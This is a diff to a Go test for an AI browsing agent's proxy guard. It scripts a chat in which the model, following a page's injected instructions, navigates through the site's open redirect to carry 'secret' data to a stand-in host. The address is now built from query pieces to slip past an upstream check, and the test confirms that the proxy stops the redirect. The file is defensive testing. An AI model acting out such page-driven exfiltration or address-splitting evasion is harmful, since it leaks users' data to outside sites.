@@ -14,13 +14,14 @@ import (
 )
 
 // TestChatNavigateStopped: a whole chat. The model, obeying the page, navigates to the site's
-// open redirect with data in the address; the page agent (stand-in) goes there as the browser
+// open redirect with data in the address (one assembled from pieces: an address in the query is
+// refused before it goes upstream, navguard_carried.go); the page agent (stand-in) goes there as the browser
 // would, the proxy refuses the redirect, the page goes, and the tool result and a notice say
 // the navigation was stopped.
 func TestChatNavigateStopped(t *testing.T) {
 	site := &testsite.NavSite{}
 	cf := newChatFixtureWith(t, `{"turns": [
-		{"tool_calls": [{"name": "navigate", "arguments": {"url": "/out?to=https%3A%2F%2Fwitness.test%2F%3Fd%3Dsecret"}}]},
+		{"tool_calls": [{"name": "navigate", "arguments": {"url": "/outpieces?host=witness&d=secret"}}]},
 		{"text": "should not be reached"}
 	]}`, chatOptions{site: site})
 	cf.srv.chats.SetFollowGrace(300 * time.Millisecond)
@@ -53,7 +54,7 @@ func TestChatNavigateStopped(t *testing.T) {
 	cf.actMode(t)
 	cf.say(t, map[string]string{"type": "send", "text": "go on"})
 	r := cf.waitItem(t, "navigate", toolDone("navigate"))
-	if r["status"] != "error" || !strings.Contains(resultOf(r), "navigate: stopped by the proxy: the site answered https://example.com/out?… with a redirect (302) to https://witness.test/?…, which would have left the site example.com") {
+	if r["status"] != "error" || !strings.Contains(resultOf(r), "navigate: stopped by the proxy: the site answered https://example.com/outpieces?… with a redirect (302) to https://witness.test/?…, which would have left the site example.com") {
 		t.Errorf("navigate = %v", r["result"])
 	}
 	cf.waitIdle(t)
